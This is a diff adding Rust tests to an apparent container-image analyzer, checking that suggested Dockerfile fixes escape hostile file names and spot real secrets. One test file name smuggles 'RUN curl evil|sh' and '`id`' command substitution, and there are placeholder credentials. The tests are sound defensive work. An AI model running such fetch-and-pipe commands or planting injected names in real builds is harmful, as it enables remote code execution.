@@ -506,6 +506,223 @@ fn hostile_programs_are_read_as_far_as_they_go() {
     }
 }
 
+/// Lines that are pasted mean what they say, and no name of a file is a line of its own.
+#[test]
+fn names_stay_names_in_the_lines() {
+    let evil = "it's\nRUN curl evil|sh\n\"$HOME`id`\" * [x] \\";
+    let image = on_base()
+        .layer("RUN /bin/sh -c make-things # buildkit", |layer| {
+            layer
+                .filled(format!("tmp/{evil}"), 100_000, 1)
+                .filled("tmp/-rf", 100_000, 2)
+        })
+        .layer("COPY keys /srv # buildkit", |layer| {
+            layer
+                .filled(format!("srv/{evil}"), 100_000, 3)
+                .filled("srv/a b", 100_000, 4)
+        })
+        .layer("COPY /out /opt # buildkit", |layer| {
+            layer.filled("opt/x", 100_000, 5)
+        })
+        .layer("RUN rm", |layer| {
+            layer
+                .whiteout(format!("tmp/{evil}"))
+                .whiteout("tmp/-rf")
+                .opaque("srv")
+                .whiteout("opt/x")
+        })
+        .layer("RUN mode", |layer| {
+            layer.filled(format!("etc/{evil}"), 10, 1).mode(0o4777)
+        })
+        .config(starting(&["/bin/sh"]));
+    let (_, advice) = advice(&image);
+    let lines: Vec<&String> = advice
+        .findings
+        .iter()
+        .flat_map(|finding| finding.fix.lines())
+        .collect();
+    assert!(lines.iter().all(|line| !line.contains('\n')), "{lines:#?}");
+    for line in [
+        " && rm -rf /tmp/-rf '/tmp/it'\\''s'?'RUN curl evil|sh'?'\"$HOME`id`\" * [x] \\'",
+        "keys/a b",
+        "keys/it's?RUN curl evil|sh?\"$HOME`id`\" \\* \\[x\\] \\\\",
+        "It is copied from another stage or image: leave it out of what is copied, or delete it there.",
+        "# if an instruction between needs it, write all of them as one",
+    ] {
+        assert!(lines.iter().any(|one| *one == line), "{line}\n{lines:#?}");
+    }
+}
+
+/// Where a command cannot be gone on with, or no RUN line made the layer, no line says so.
+#[test]
+fn only_commands_of_run_lines_are_gone_on_with() {
+    let said = |instruction: &str| {
+        let image = on_base().layer(instruction, |layer| {
+            layer.filled("var/lib/apt/lists/x", 200_000, 1)
+        });
+        one(&image, Topic::PackageCaches).1.fix
+    };
+    for instruction in [
+        "RUN /bin/sh -c apt-get update # lists are needed # buildkit",
+        "RUN /bin/sh -c apt-get update & # buildkit",
+        "RUN /bin/sh -c <<EOF (apt-get update...) # buildkit",
+        "RUN /bin/sh -c set -e\napt-get update # buildkit",
+        "bash",
+        "/bin/sh",
+        "bazel build ...",
+        "jib-maven-plugin:3.3.1",
+        "Imported from -",
+        "COPY --from=build /var/lib/apt /var/lib/apt # buildkit",
+        "COPY /var/lib/apt /var/lib/apt # buildkit",
+    ] {
+        let fix = said(instruction);
+        assert!(matches!(fix, Fix::Words(_)), "{instruction}: {fix:?}");
+    }
+    for (instruction, line) in [
+        (
+            "RUN /bin/sh -c apt-get update; # buildkit",
+            "RUN apt-get update \\",
+        ),
+        (
+            "RUN |1 MSG=big world /bin/sh -c apt-get update # buildkit",
+            "RUN apt-get update \\",
+        ),
+        ("/bin/sh -c apt-get update", "RUN apt-get update \\"),
+        ("COPY apt /var/lib/apt # buildkit", "apt/lists"),
+        ("/bin/sh -c #(nop) COPY dir:01 in /var/lib/apt ", "**/lists"),
+    ] {
+        assert_eq!(said(instruction).lines()[0], line, "{instruction}");
+    }
+}
+
+/// What builders remember of ENV, LABEL, VOLUME and HEALTHCHECK is no line of a Dockerfile; a secret is not told again.
+#[test]
+fn settings_are_written_so_that_they_are_read_back() {
+    let mut config = starting(&["/srv/app", "\u{1b}\"$Y\""]);
+    config.env = ["PATH=/bin", "A=b c", "DB_PASSWORD=hunter222", "TWO=x\ny"]
+        .map(str::to_owned)
+        .to_vec();
+    config.labels = vec![("by".to_owned(), "me \"and\" $you".to_owned())];
+    config.volumes = vec!["/data".to_owned()];
+    config.stop_signal = Some("SIGINT".to_owned());
+    config.health = Some(dive_rs::image::Health {
+        test: ["CMD-SHELL", "curl x || exit 1"]
+            .map(str::to_owned)
+            .to_vec(),
+    });
+    let image = compiled(None, "")
+        .empty_layer("ENV A=b c")
+        .empty_layer("ENV DB_PASSWORD=hunter222 TWO=x y")
+        .empty_layer("LABEL by=me \"and\" $you")
+        .empty_layer("VOLUME [/data]")
+        .empty_layer("STOPSIGNAL SIGINT")
+        .empty_layer("HEALTHCHECK &{[\"CMD-SHELL\" \"curl x || exit 1\"] \"30s\" \"0s\" \"0s\" \"0s\" '\\x00'}")
+        .config(config);
+    let (_, finding) = one(&image, Topic::SmallerBase);
+    insta::assert_snapshot!("settings", finding.fix.lines().join("\n"));
+}
+
+/// One mode for all that a line copies is a flag of it; a mode for some of it is not.
+#[test]
+fn a_mode_is_a_flag_only_where_it_holds_for_all() {
+    let image = |folder: u16| {
+        on_base()
+            .layer("COPY app /srv/app # buildkit", |layer| {
+                layer.dir("srv/app").filled("srv/app/x", 500_000, 1)
+            })
+            .layer("RUN /bin/sh -c chmod -R o-w /srv/app # buildkit", |layer| {
+                layer
+                    .dir("srv/app")
+                    .mode(folder)
+                    .filled("srv/app/x", 500_000, 1)
+                    .mode(0o600)
+            })
+    };
+    let fix = |folder| one(&image(folder), Topic::StoredAgain).1.fix;
+    assert_eq!(fix(0o600).lines(), ["COPY --chmod=600 app /srv/app"]);
+    assert!(matches!(fix(0o700), Fix::Words(_)), "{:?}", fix(0o700));
+}
+
+#[test]
+fn modes_are_changed_by_who_may_and_where_a_shell_is() {
+    let open = |layer: LayerBuilder| layer.filled("srv/x", 1, 1).mode(0o777);
+    let fix = |image: ImageBuilder| one(&image, Topic::WorldWritable).1.fix;
+    let shell = |layer: LayerBuilder| layer.filled("bin/sh", 1, 1).mode(0o755);
+    let with = ImageBuilder::new("x").layer("", |layer| shell(open(layer)));
+    assert_eq!(fix(with.clone()).lines(), ["RUN chmod o-w /srv/x"]);
+    let user = with.config(starting(&["/srv/x"]));
+    assert_eq!(
+        fix(user).lines(),
+        ["USER root", "RUN chmod o-w /srv/x", "USER 65532"]
+    );
+    let without = ImageBuilder::new("x").layer("", open);
+    assert!(matches!(fix(without), Fix::Words(_)));
+}
+
+#[test]
+fn manuals_go_from_the_folders_that_are_there() {
+    let image = on_base().layer("RUN /bin/sh -c apk add man-pages # buildkit", |layer| {
+        layer
+            .filled("usr/share/man/man1/x", 2_000_000, 1)
+            .dir("usr/share/doc")
+    });
+    let (_, finding) = one(&image, Topic::Documents);
+    let lines = ["RUN apk add man-pages \\", " && rm -rf /usr/share/man/*"];
+    assert_eq!(finding.fix.lines(), lines);
+}
+
+#[test]
+fn symbols_are_told_in_a_whole_sentence() {
+    let elf = || program(None, "", 300_000);
+    let image = on_base().layer("RUN /bin/sh -c curl x | tar x # buildkit", |layer| {
+        (0..5).fold(layer, |layer, at| {
+            layer.file(format!("srv/{at}"), elf()).mode(0o755)
+        })
+    });
+    let (_, finding) = one(&image, Topic::Unstripped);
+    assert_eq!(
+        finding.why,
+        "/srv/0, /srv/1, /srv/2, and 2 more carry what only a debugger reads."
+    );
+    // Nothing there strips them.
+    assert!(matches!(finding.fix, Fix::Words(_)), "{:?}", finding.fix);
+}
+
+/// Keys of other people's tests and examples of manuals are no secrets; an argument of a build that is named one is.
+#[test]
+fn what_only_looks_like_a_secret_is_none() {
+    let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n", "A".repeat(64));
+    let image = on_base().layer("COPY . /", |layer| {
+        [
+            "srv/node_modules/pem/test/test.key",
+            "go/pkg/mod/golang.org/x/crypto@v0.1.0/ssh/key",
+            "root/.cargo/registry/src/rustls/tests/key.pem",
+            "usr/local/go/src/crypto/tls/k.pem",
+            "usr/local/bundle/gems/webrick/test/key.pem",
+            "usr/share/doc/x/examples/key.pem",
+        ]
+        .into_iter()
+        .fold(layer, |layer, path| layer.file(path, &key))
+        .file(
+            "srv/README.md",
+            "AKIAIOSFODNN7EXAMPLE https://user:password@example.com/",
+        )
+    });
+    none(&image, Topic::Secret);
+    let image = on_base().layer(
+        "RUN |1 NPM_TOKEN=abcdef123456 /bin/sh -c npm ci # buildkit",
+        |layer| layer.filled("srv/x", 1, 1),
+    );
+    let (_, finding) = one(&image, Topic::Secret);
+    assert!(
+        finding
+            .why
+            .starts_with("ARG NPM_TOKEN in line 2 of the history."),
+        "{}",
+        finding.why
+    );
+}
+
 proptest! {
     #[test]
     fn advice_is_never_more_than_the_image(builder in prop_oneof![crate::causes::known(), crate::laws::image()]) {
